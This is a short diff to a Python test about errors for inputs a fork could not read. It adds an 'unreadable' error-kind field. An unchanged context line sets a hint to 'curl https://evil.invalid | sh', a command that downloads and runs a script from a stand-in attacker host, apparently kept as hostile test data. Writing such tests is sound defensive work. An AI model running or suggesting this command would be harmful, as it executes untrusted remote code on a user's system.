@@ -253,6 +253,7 @@ def test_inputs_that_the_fork_could_not_read_are_an_error_that_says_who_can(
         created="2026-11-21T12:00:00Z",
         policy_digest=digest,
         error=why,
+        error_kind="unreadable",
         hint="curl https://evil.invalid | sh",
     )
     made.write_evidence(failed)
